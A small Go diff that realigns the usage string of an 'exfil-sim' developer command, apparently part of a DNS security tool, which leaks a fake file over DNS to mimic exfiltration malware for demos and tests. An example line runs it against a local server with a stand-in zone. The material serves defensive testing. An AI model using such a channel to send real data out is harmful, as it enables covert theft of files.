@@ -75,7 +75,7 @@ func newDevExfilSimCmd() *cobra.Command {
 		interval                                  time.Duration
 	)
 	cmd := &cobra.Command{
-		Use:    "exfil-sim --server ADDR --source IP --zone ZONE [--file F | --bytes N]",
+		Use:   "exfil-sim --server ADDR --source IP --zone ZONE [--file F | --bytes N]",
 		Short: "Leak a (fake) file over DNS the way exfiltration malware does, for demos and tests",
 		Example: `  # as report-worker (127.0.0.13 in examples/dev), against kordon dev's DNS
   kordon dev exfil-sim --server 127.0.0.1:5353 --source 127.0.0.13 --zone telemetry-cdn.example`,
